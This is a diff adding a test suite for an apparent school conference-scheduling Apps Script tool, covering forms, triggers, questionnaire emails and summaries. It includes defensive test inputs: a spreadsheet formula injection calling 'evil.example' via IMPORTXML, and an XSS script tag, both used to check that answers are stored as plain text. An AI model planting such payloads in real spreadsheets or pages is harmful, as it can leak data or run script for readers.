@@ -1,0 +1,452 @@
+/**
+ * Issue 8 on the built bundle: the family forms, the form-submit trigger fired by the emulator's
+ * form submissions, the questionnaire emails and the Summary.
+ */
+import { LockStore } from '../../emulator/lock';
+import { openSchool } from '../../preview/school';
+import type { JobProgress, Overview, Result, Settings } from '../../src/shared/api';
+
+type School = ReturnType<typeof openSchool>;
+
+const WHO = 'Who will come? (Another trusted adult, such as a grandparent, may come in your place.)';
+const TIMES = 'Which times suit you?';
+const Q = {
+  rating: 'How did the conference go?',
+  goal: 'What did your child share, and what goal did they set?',
+  help: 'How will your family help with that goal?',
+  followUp: 'Would you like a follow-up meeting with the teacher?',
+  when: 'If yes, when would suit you?',
+  comments: 'Anything else you would like to tell us?',
+  code: 'Conference code',
+};
+const HOSTILE = '=IMPORTXML("https://evil.example","//a")';
+
+function ok<T>(result: unknown): T {
+  const r = result as Result<T>;
+  if (!r.ok) throw new Error(`expected ok, got: ${r.error.message}`);
+  return r.value;
+}
+
+function run(s: School, job: string): JobProgress {
+  for (let i = 0; i < 20; i++) {
+    const p = ok<JobProgress>(s.bundle.callFromClient('runJob', [job]));
+    if (p.done) return p;
+  }
+  throw new Error(`${job} never finished`);
+}
+
+function props(s: School): Map<string, string> {
+  return s.emulator.kv.properties.get(`document:${s.emulator.spreadsheet.id}`) ?? new Map();
+}
+
+interface FormsState {
+  availability: { formId: string; linkTemplate: string; choices: { label: string; date: string; start: number; end: number }[] };
+  questionnaires: Record<string, { formId: string }>;
+}
+
+function formsState(s: School): FormsState {
+  return JSON.parse(props(s).get('slc:forms')!) as FormsState;
+}
+
+/** Each family's availability link, as the messages get them. */
+function familyLinks(s: School): Map<string, string> {
+  const template = formsState(s).availability.linkTemplate;
+  const out = new Map<string, string>();
+  for (const [k, code] of props(s)) if (k.startsWith('slc:family-code:')) out.set(k.slice('slc:family-code:'.length), template.replace('0000000000000000000000000000c0de', code));
+  return out;
+}
+
+function rows(s: School, sheet: string): Record<string, unknown>[] {
+  const [header, ...body] = s.emulator.spreadsheet.sheetByName(sheet)!.values();
+  return body.filter((r) => r.some((v) => v !== '')).map((r) => Object.fromEntries(header!.map((h, i) => [String(h), r[i]])));
+}
+
+/** A Schedule row's day and start, as the school's clock reads them. */
+function when(row: Record<string, unknown>): { date: string; start: number } {
+  const wall = (d: unknown, o: Intl.DateTimeFormatOptions) => new Intl.DateTimeFormat('en-CA', { timeZone: 'America/New_York', ...o }).format(d as Date);
+  const [h, m] = wall(row.Start, { hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).split(':').map(Number);
+  return { date: wall(row.Date, { year: 'numeric', month: '2-digit', day: '2-digit' }), start: h! * 60 + m! };
+}
+
+function within(row: Record<string, unknown>, choice: { date: string; start: number; end: number }): boolean {
+  const w = when(row);
+  return w.date === choice.date && w.start >= choice.start && w.start < choice.end;
+}
+
+function school(students = 30): School {
+  const s = openSchool({ students });
+  run(s, 'setup');
+  return s;
+}
+
+function setSettings(s: School, change: Partial<Settings>): void {
+  const view = ok<{ settings: Settings }>(s.bundle.callFromClient('getSettings', []));
+  ok(s.bundle.callFromClient('saveSettings', [{ ...view.settings, ...change }]));
+}
+
+/** A school whose conferences have taken place, with the questionnaire links in the Schedule. */
+function afterConferences(students = 30): School {
+  const s = school(students);
+  run(s, 'schedule');
+  run(s, 'forms');
+  s.emulator.ws.clock.set(Date.UTC(2026, 11, 1, 14, 0));
+  return s;
+}
+
+describe('the forms job', () => {
+  it('creates each form once and installs one form-submit trigger, however often it runs', () => {
+    const s = school();
+    const first = run(s, 'forms');
+    expect(first.message).toContain('Created the availability form');
+    run(s, 'forms');
+    run(s, 'forms');
+    expect(s.emulator.forms.forms()).toHaveLength(2);
+    expect(s.emulator.triggers.triggers.filter((t) => t.event === 'ON_FORM_SUBMIT')).toHaveLength(1);
+    expect(s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses'))).toHaveLength(2);
+  });
+
+  it('offers the teachers’ windows and gives every family a link carrying only its own unguessable code', () => {
+    const s = school();
+    run(s, 'forms');
+    const links = familyLinks(s);
+    expect(links.size).toBeGreaterThan(10);
+    const codes = [...links.values()].map((l) => new URL(l).searchParams);
+    for (const params of codes) {
+      const entries = [...params.keys()].filter((k) => k.startsWith('entry.'));
+      expect(entries).toHaveLength(1);
+      // A letter first: Forms would store a digits-only code as a number.
+      expect(params.get(entries[0]!)).toMatch(/^[a-f][0-9a-f]{31}$/);
+    }
+    expect(new Set(codes.map((p) => [...p.values()].join())).size).toBe(links.size);
+    const form = s.emulator.forms.get(formsState(s).availability.formId)!;
+    expect(form.items.find((i) => i.title === TIMES)!.rows).toEqual(formsState(s).availability.choices.map((c) => c.label));
+  });
+
+  it('cut off at any service call, a second run completes with one linked form each, one response sheet each and one trigger', () => {
+    const probe = school();
+    const start = probe.emulator.ws.callCount;
+    run(probe, 'forms');
+    const total = probe.emulator.ws.callCount - start;
+    for (let k = 0; k < total; k += 2) {
+      const s = school();
+      s.emulator.ws.injectFault({ atIndex: s.emulator.ws.callCount + k, kind: 'kill' });
+      expect(() => s.bundle.callFromClient('runJob', ['forms'])).toThrow();
+      run(s, 'forms');
+      const linked = s.emulator.forms.forms().filter((f) => f.destination);
+      expect(linked.map((f) => f.title.replace(/.*: /, '')).sort()).toEqual(['how did the Fall conference go?', 'when can you come to the student-led conference?']);
+      // Apps Script has no transaction: cut between FormApp.create and saving its id, that form is left empty and unlinked.
+      expect(s.emulator.forms.forms().length).toBeLessThanOrEqual(3);
+      expect(s.emulator.spreadsheet.sheets.filter((x) => x.name.startsWith('Form Responses'))).toHaveLength(2);
+      expect(s.emulator.triggers.triggers).toHaveLength(1);
+      expect(familyLinks(s).size).toBe(familyLinks(probe).size);
+    }
+  });
+
+  it('offers the times the Teachers sheet has now when run again, on the same form', () => {
+    const s = school();
+    run(s, 'forms');
+    const before = formsState(s).availability;
+    s.emulator.spreadsheet.sheetByName('Teachers')!.appendRow(['Ms. Rivera', 'rivera@lincoln.school.example', '2026-11-24', '7:00 AM', '8:00 AM', '12', 1]);
+    run(s, 'forms');
+    const after = formsState(s).availability;
+    expect(after.formId).toBe(before.formId);
+    expect(after.choices.map((c) => c.label)).toContain('Tue 2026-11-24, 7:00 AM – 8:00 AM');
+    expect(s.emulator.forms.get(after.formId)!.items.find((i) => i.title === TIMES)!.rows).toEqual(after.choices.map((c) => c.label));
+  });
+
+  it('refuses with the sheet to fix when there are no teacher windows', () => {
+    const s = openSchool({ empty: true });
+    run(s, 'setup');
+    const r = s.bundle.callFromClient('runJob', ['forms']) as Result<JobProgress>;
+    expect(r).toMatchObject({ ok: false, error: { where: { sheet: 'Teachers' } } });
+    expect(s.emulator.forms.forms()).toHaveLength(0);
+  });
+});
+
+describe('an availability answer', () => {
+  function answer(s: School, familyId: string, overrides: Record<string, string>): string {
+    return s.emulator.forms.submitPrefilled(familyLinks(s).get(familyId)!, overrides);
+  }
+
+  it('lands in the Availability sheet under the family its code names, ranked, with hostile text kept as text', () => {
+    const s = school();
+    run(s, 'forms');
+    const [familyId] = familyLinks(s).keys();
+    const [first, second] = formsState(s).availability.choices;
+    answer(s, familyId!, { [`${TIMES} [${second!.label}]`]: '1st choice', [`${TIMES} [${first!.label}]`]: '2nd choice', [WHO]: HOSTILE, 'Would you like an interpreter at the conference?': 'Yes' });
+    expect(s.emulator.triggers.firings.at(-1)!.error).toBeUndefined();
+    const mine = rows(s, 'Availability').filter((r) => r['Family ID'] === familyId);
+    expect(mine.map((r) => r.Rank)).toEqual([1, 2]);
+    expect(mine[0]!['Who Comes']).toBe(HOSTILE);
+    expect(mine[0]!.Interpreter).toBe('Yes');
+    const sheet = s.emulator.spreadsheet.sheetByName('Availability')!;
+    const who = sheet.values()[0]!.indexOf('Who Comes') + 1;
+    expect(sheet.cell(2, who)!.f).toBeUndefined();
+  });
+
+  it('is replaced by the family’s edited response, not added to', () => {
+    const s = school();
+    run(s, 'forms');
+    const [familyId] = familyLinks(s).keys();
+    const [first, second] = formsState(s).availability.choices;
+    const id = answer(s, familyId!, { [`${TIMES} [${first!.label}]`]: '1st choice', [`${TIMES} [${second!.label}]`]: '2nd choice' });
+    s.emulator.forms.submit(formsState(s).availability.formId, { [`${TIMES} [${first!.label}]`]: '', [WHO]: 'Grandpa Joe' }, { editOf: id });
+    const mine = rows(s, 'Availability').filter((r) => r['Family ID'] === familyId);
+    expect(mine).toHaveLength(1);
+    expect(mine[0]).toMatchObject({ Rank: 2, Date: expect.any(Date), 'Who Comes': 'Grandpa Joe' });
+  });
+
+  it('with an unknown code is kept and shown as a problem, never given to a family', () => {
+    const s = school();
+    run(s, 'forms');
+    const link = [...familyLinks(s).values()][0]!.replace(/=[0-9a-f]{32}/, `=${'f'.repeat(32)}`);
+    s.emulator.forms.submitPrefilled(link, { [`${TIMES} [${formsState(s).availability.choices[0]!.label}]`]: '1st choice' });
+    const written = rows(s, 'Availability');
+    expect(written).toHaveLength(1);
+    expect(written[0]!['Family ID']).toBe('');
+    expect(String(written[0]!.Family)).toContain('Unknown family code');
+  });
+
+  it('places the family at once in a free place of its first choice when the settings say so, moving nobody', () => {
+    const s = school();
+    setSettings(s, { placeResponses: 'at-once' });
+    run(s, 'forms');
+    const [a, b] = [...familyLinks(s).keys()];
+    const choice = formsState(s).availability.choices[0]!;
+    answer(s, a!, { [`${TIMES} [${choice.label}]`]: '1st choice' });
+    const placedA = rows(s, 'Schedule').filter((r) => r['Family ID'] === a);
+    expect(placedA.length).toBeGreaterThan(0);
+    for (const r of placedA) expect(within(r, choice)).toBe(true);
+    const before = JSON.stringify(rows(s, 'Schedule'));
+    answer(s, b!, { [`${TIMES} [${choice.label}]`]: '1st choice' });
+    const after = rows(s, 'Schedule');
+    expect(JSON.stringify(after.slice(0, placedA.length))).toBe(JSON.stringify(JSON.parse(before)));
+    expect(after.some((r) => r['Family ID'] === b)).toBe(true);
+    expect(after.filter((r) => r['Family ID'] === a)).toHaveLength(placedA.length);
+  });
+
+  it('waits for the next build by default, which places the family in the time it chose', () => {
+    const s = school();
+    run(s, 'forms');
+    const families = [...familyLinks(s).keys()];
+    const choices = formsState(s).availability.choices;
+    const chosen = choices[choices.length - 1]!;
+    for (const f of families.slice(0, 3)) answer(s, f, { [`${TIMES} [${chosen.label}]`]: '1st choice' });
+    expect(rows(s, 'Schedule')).toHaveLength(0);
+    run(s, 'schedule');
+    const placed = rows(s, 'Schedule').filter((r) => families.slice(0, 3).includes(String(r['Family ID'])));
+    expect(placed.length).toBeGreaterThanOrEqual(3);
+    for (const r of placed) expect(within(r, chosen)).toBe(true);
+  });
+
+  it('brings the family’s language and interpreter wish into the next schedule and the interpreter roster', () => {
+    const s = school();
+    run(s, 'forms');
+    const [familyId] = familyLinks(s).keys();
+    answer(s, familyId!, { [`${TIMES} [${formsState(s).availability.choices[0]!.label}]`]: '1st choice', 'Which language would you like us to use?': 'Vietnamese', 'Would you like an interpreter at the conference?': 'Yes' });
+    run(s, 'schedule');
+    const mine = rows(s, 'Schedule').filter((r) => r['Family ID'] === familyId);
+    expect(mine.length).toBeGreaterThan(0);
+    for (const r of mine) expect(r).toMatchObject({ Language: 'Vietnamese', Interpreter: 'Yes' });
+    run(s, 'summary');
+    const grid = s.emulator.spreadsheet.sheetByName('Summary')!.values();
+    const roster = grid.slice(grid.findIndex((r) => r[0] === 'Interpreter roster') + 2);
+    expect(roster.some((r) => r[0] === 'Vietnamese' && r[6] === mine[0]!.Family)).toBe(true);
+  });
+
+  it('waits for a trigger holding the lock, and one that gave up is recorded by the next response', () => {
+    const s = school();
+    run(s, 'forms');
+    const [a, b, c] = [...familyLinks(s).keys()];
+    const label = `${TIMES} [${formsState(s).availability.choices[0]!.label}]`;
+    const key = LockStore.documentKey(s.emulator.spreadsheet.id);
+    s.emulator.locks.holdForAnother(key, s.emulator.ws.clock.now() + 3_000);
+    answer(s, a!, { [label]: '1st choice' });
+    expect(rows(s, 'Availability').map((r) => r['Family ID'])).toEqual([a]);
+    s.emulator.locks.holdForAnother(key, s.emulator.ws.clock.now() + 600_000);
+    answer(s, b!, { [label]: '1st choice' });
+    expect(s.emulator.triggers.firings.at(-1)!.error).toMatch(/recording a family’s form answers|changing this spreadsheet/);
+    expect(rows(s, 'Availability').map((r) => r['Family ID'])).toEqual([a]);
+    s.emulator.locks.held.delete(key);
+    answer(s, c!, { [label]: '1st choice' });
+    expect(rows(s, 'Availability').map((r) => r['Family ID']).sort()).toEqual([a, b, c].sort());
+  });
+});
+
+describe('the questionnaire', () => {
+  it('is sent once per family after its conference, in one email carrying only its own links', () => {
+    const s = afterConferences();
+    const first = run(s, 'questionnaire');
+    const sent = s.emulator.mail.sent.length;
+    expect(sent).toBeGreaterThan(5);
+    expect(first.message).toContain(`to ${sent} famil`);
+    expect(run(s, 'questionnaire').message).toContain('to 0 families');
+    expect(s.emulator.mail.sent).toHaveLength(sent);
+    const schedule = rows(s, 'Schedule');
+    for (const m of s.emulator.mail.sent) {
+      const own = schedule.filter((r) => m.to.some((t) => String(r.Emails).includes(t)));
+      const links = m.body.match(/https:\/\/docs\.google\.com\/forms\/\S+/g) ?? [];
+      expect(links.sort()).toEqual(own.map((r) => String(r['Feedback Link'])).sort());
+    }
+    expect(schedule.every((r) => r['Questionnaire Sent'] instanceof Date)).toBe(true);
+  });
+
+  it('stops at Google’s daily email limit and finishes the next day, each family once', () => {
+    const s = afterConferences();
+    const quota = s.emulator.ws.quota;
+    quota.take('mailRecipientsPerDay', quota.remaining('mailRecipientsPerDay') - 4, 'used by something else');
+    const first = run(s, 'questionnaire');
+    expect(first.message).toContain('daily email limit');
+    const today = s.emulator.mail.sent.length;
+    expect(today).toBeGreaterThan(0);
+    s.emulator.ws.clock.set(s.emulator.ws.clock.now() + 24 * 3600_000);
+    run(s, 'questionnaire');
+    const recipients = s.emulator.mail.sent.map((m) => m.to.join());
+    expect(new Set(recipients).size).toBe(recipients.length);
+    expect(recipients.length).toBeGreaterThan(today);
+    expect(rows(s, 'Schedule').every((r) => r['Questionnaire Sent'] instanceof Date)).toBe(true);
+  });
+
+  it('cut off before recording what it sent, sends nothing twice when run again', () => {
+    const s = afterConferences();
+    s.emulator.ws.injectFault({ method: 'SpreadsheetApp.Range.setValues', kind: 'kill' });
+    expect(() => s.bundle.callFromClient('runJob', ['questionnaire'])).toThrow();
+    const sent = s.emulator.mail.sent.length;
+    expect(sent).toBeGreaterThan(0);
+    run(s, 'questionnaire');
+    expect(s.emulator.mail.sent).toHaveLength(sent);
+    expect(rows(s, 'Schedule').every((r) => r['Questionnaire Sent'] instanceof Date)).toBe(true);
+  });
+
+  it('is not sent before the conference', () => {
+    const s = school();
+    run(s, 'schedule');
+    run(s, 'forms');
+    run(s, 'questionnaire');
+    expect(s.emulator.mail.sent).toHaveLength(0);
+  });
+
+  it('records an answer against its conference, keeps hostile text as text, and the Summary shows it with the follow-up and two charts', () => {
+    const s = afterConferences();
+    const conf = rows(s, 'Schedule')[0]!;
+    const long = 'x'.repeat(20_000);
+    s.emulator.forms.submitPrefilled(String(conf['Feedback Link']), { [Q.rating]: '4', [Q.goal]: '<script>alert(1)</script>', [Q.help]: HOSTILE, [Q.followUp]: 'Yes', [Q.when]: '+1 Tuesday 3:30 PM', [Q.comments]: long });
+    const [fb] = rows(s, 'Feedback');
+    expect(fb).toMatchObject({ 'Conference ID': conf['Conference ID'], Teacher: conf.Teacher, Rating: 4, Goal: '<script>alert(1)</script>', 'How We Help': HOSTILE, 'Follow-up': 'Yes', 'Follow-up When': '+1 Tuesday 3:30 PM', Flag: '' });
+    expect(String(fb!.Comments).length).toBeLessThanOrEqual(5000);
+    const summary = s.emulator.spreadsheet.sheetByName('Summary')!;
+    const grid = summary.values();
+    const follow = grid.findIndex((r) => r[0] === 'Follow-up requests');
+    expect(grid[follow + 2]!.slice(0, 3)).toEqual([conf.Family, conf.Teacher, '+1 Tuesday 3:30 PM']);
+    expect(grid.flat()).toContain(HOSTILE);
+    expect(summary.rows.flat().filter((c) => c?.f !== undefined)).toEqual([]);
+    expect(summary.charts.map((c) => c.options.title)).toEqual(['Participation per teacher', 'Average rating per teacher (1–5)']);
+  });
+
+  it('flags a code that is unknown or of another round’s conference, and does not count it', () => {
+    const s = afterConferences();
+    const conf = rows(s, 'Schedule')[0]!;
+    const link = String(conf['Feedback Link']);
+    s.emulator.forms.submitPrefilled(link.replace(/=[0-9a-f]{32}/, `=${'0'.repeat(32)}`), { [Q.rating]: '1' });
+    setSettings(s, { roundName: 'Spring' });
+    run(s, 'forms');
+    const spring = s.emulator.forms.get(formsState(s).questionnaires.Spring!.formId)!;
+    const code = /=([0-9a-f]{32})/.exec(link)![1]!;
+    s.emulator.forms.submit(spring.id, { [Q.code]: code, [Q.rating]: '1' });
+    const flags = rows(s, 'Feedback').map((r) => String(r.Flag));
+    expect(flags).toEqual([expect.stringMatching(/Unknown conference code/), expect.stringMatching(/Fall conference, answered on the Spring questionnaire/)]);
+    setSettings(s, { roundName: 'Fall' });
+    run(s, 'summary');
+    const grid = s.emulator.spreadsheet.sheetByName('Summary')!.values();
+    const q = grid.findIndex((r) => r[0] === 'Questionnaire');
+    expect(grid[q + 2]!.slice(0, 4)).toEqual([0, 0, '', 2]);
+  });
+
+  it('keeps a family’s second answer beside the first and counts the latest; an edited answer replaces its own row', () => {
+    const s = afterConferences();
+    const conf = rows(s, 'Schedule')[0]!;
+    const link = String(conf['Feedback Link']);
+    s.emulator.forms.submitPrefilled(link, { [Q.rating]: '2' });
+    s.emulator.ws.clock.set(s.emulator.ws.clock.now() + 3600_000);
+    const second = s.emulator.forms.submitPrefilled(link, { [Q.rating]: '5' });
+    expect(rows(s, 'Feedback').map((r) => r.Rating)).toEqual([2, 5]);
+    const teacherRow = () => {
+      const grid = s.emulator.spreadsheet.sheetByName('Summary')!.values();
+      return grid.find((r, i) => i > grid.findIndex((x) => x[0] === 'Per teacher') && r[0] === conf.Teacher)!;
+    };
+    expect(teacherRow()[7]).toBe(5);
+    const form = formsState(s).questionnaires.Fall!.formId;
+    s.emulator.forms.submit(form, { [Q.rating]: '3' }, { editOf: second });
+    expect(rows(s, 'Feedback').map((r) => r.Rating)).toEqual([2, 3]);
+    expect(teacherRow()[7]).toBe(3);
+  });
+});
+
+describe('the summary', () => {
+  it('is the same grid with the same two charts when rebuilt again', () => {
+    const s = afterConferences();
+    const conf = rows(s, 'Schedule')[0]!;
+    s.emulator.forms.submitPrefilled(String(conf['Feedback Link']), { [Q.rating]: '5' });
+    run(s, 'summary');
+    const sheet = s.emulator.spreadsheet.sheetByName('Summary')!;
+    const grid = JSON.stringify(sheet.values());
+    const charts = JSON.stringify(sheet.charts);
+    run(s, 'summary');
+    expect(JSON.stringify(sheet.values())).toBe(grid);
+    expect(JSON.stringify(sheet.charts)).toBe(charts);
+    expect(sheet.charts).toHaveLength(2);
+  });
+
+  it('counts attendance teachers mark in the Schedule, and the sidebar lists no-shows to offer a new time', () => {
+    const s = afterConferences();
+    const sheet = s.emulator.spreadsheet.sheetByName('Schedule')!;
+    const status = sheet.values()[0]!.indexOf('Status') + 1;
+    sheet.put(2, status, { v: 'attended' });
+    sheet.put(3, status, { v: 'no-show' });
+    run(s, 'summary');
+    const o = ok<Overview>(s.bundle.callFromClient('getOverview', []));
+    const summary = o.steps.find((x) => x.id === 'summary')!;
+    expect(summary.counts).toEqual(expect.arrayContaining([{ label: 'attended', value: 1 }, { label: 'no-show', value: 1 }]));
+    const questionnaire = o.steps.find((x) => x.id === 'questionnaire')!;
+    expect(questionnaire.problems.find((p) => /did not come/.test(p.message))).toMatchObject({ where: { sheet: 'Schedule', row: 3, column: status } });
+  });
+});
+
+describe('the Questionnaire step', () => {
+  it('shows a family’s request for another time when its invited conference no longer fits its answer', () => {
+    const s = school();
+    run(s, 'schedule');
+    run(s, 'forms');
+    const sheet = s.emulator.spreadsheet.sheetByName('Schedule')!;
+    const header = sheet.values()[0]!;
+    const conf = rows(s, 'Schedule')[0]!;
+    sheet.put(2, header.indexOf('Status') + 1, { v: 'invited' });
+    const other = formsState(s).availability.choices.find((c) => c.date !== (conf.Date as Date).toISOString().slice(0, 10))!;
+    s.emulator.forms.submitPrefilled(familyLinks(s).get(String(conf['Family ID']))!, { [`${TIMES} [${other.label}]`]: '1st choice' });
+    const step = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'questionnaire')!;
+    expect(step.status).toBe('attention');
+    expect(step.counts).toContainEqual({ label: 'change requests', value: 1 });
+    expect(step.problems[0]).toMatchObject({ where: { sheet: 'Schedule', row: 2 }, message: expect.stringContaining('asks for another time') });
+  });
+
+  it('is read with one read of each sheet and no write', () => {
+    const s = afterConferences(120);
+    s.bundle.callFromClient('getOverview', []);
+    const calls = s.emulator.ws.reports.at(-1)!.callsByMethod;
+    expect(calls['SpreadsheetApp.Range.getValues']).toBeLessThanOrEqual(5);
+    expect(Object.keys(calls).filter((m) => /\.set|insert|append|delete|send/.test(m))).toEqual([]);
+  });
+
+  it('offers to create the forms, then to send the questionnaire once conferences have passed', () => {
+    const s = school();
+    const step = () => ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'questionnaire')!;
+    expect(step()).toMatchObject({ status: 'ready', action: { job: 'forms' } });
+    run(s, 'schedule');
+    run(s, 'forms');
+    expect(step().action?.job).toBe('forms');
+    s.emulator.ws.clock.set(Date.UTC(2026, 11, 1, 14, 0));
+    expect(step()).toMatchObject({ status: 'ready', action: { job: 'questionnaire' } });
+    run(s, 'questionnaire');
+    expect(step()).toMatchObject({ status: 'done' });
+  });
+});
